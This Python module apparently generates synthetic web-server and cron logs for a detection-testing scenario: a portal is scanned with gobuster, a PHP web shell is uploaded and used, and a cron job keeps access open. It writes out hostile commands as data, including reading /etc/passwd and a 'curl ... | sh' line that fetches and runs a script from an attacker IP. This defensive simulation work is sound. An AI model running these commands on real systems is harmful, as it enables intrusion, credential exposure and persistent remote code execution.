"""A3: a portal is scanned, a script uploaded and used, and a cron entry keeps the door open."""

from __future__ import annotations

from collectors.simulate.attacks.play import Stage
from collectors.simulate.line import Attack
from collectors.simulate.writers import linux, nginx

_WORDS = (
    "admin",
    "backup",
    "cms",
    "config",
    "data",
    "db",
    "dev",
    "login",
    "manager",
    "old",
    "phpmyadmin",
    "test",
    "web",
)
_ENDINGS = ("", "/", ".php", ".bak", ".zip", ".sql", ".aspx", ".jsp", ".txt", ".old", "/index.php", "/.git/config")
_COMMANDS = ("whoami", "id&s=1", "uname%20-a", "cat%20/etc/passwd", "wget%20http://203.0.113.250/k.sh")
SCANNER = "gobuster/3.8"
MISSES = 150


def web_shell(stage: Stage) -> Attack:
    """150 missing pages in about three minutes, an upload, five commands, persistence."""
    portal, attacker = stage.draw.choice(stage.world.portals), stage.attacker()
    paths = [f"/{word}{ending}" for word in _WORDS for ending in _ENDINGS]
    stage.draw.shuffle(paths)
    for path in paths[:MISSES]:
        stage.send(nginx.access(portal, stage.wait(0.8, 1.5), attacker, f"GET {path}", 404, size=162, agent=SCANNER))
    stage.send(nginx.access(portal, stage.wait(60, 90), attacker, "POST /gop-y/dinh-kem", 200, size=88))
    shell = f"/uploads/2026/anh{stage.draw.randint(10, 99)}.php"
    stage.send(nginx.access(portal, stage.wait(10, 20), attacker, f"GET {shell}", 200, size=0))
    for command in _COMMANDS:
        stage.send(nginx.access(portal, stage.wait(5, 25), attacker, f"GET {shell}?c={command}", 200, size=311))
    for _ in range(2):
        job = "curl -s http://203.0.113.250/k.sh | sh"
        stage.send(linux.cron(portal, stage.wait(60), "www-data", job, stage.draw.randint(900, 30_000)))
    return stage.done(
        "A3",
        "Web shell: scan, upload, shell, persistence",
        units=[stage.world.centre.unit],
        entities={"source.ip": attacker, "host.name": portal.name},
        must=(
            *("web_scan_paths", "web_scanner_agent", "web_script_in_upload_folder", "web_shell_commands"),
            *("scan_then_shell", "lx_persistence_fetch"),
        ),
        techniques=("T1595.003", "T1505.003", "T1053.003"),
        alerts_at_most=7,
    )
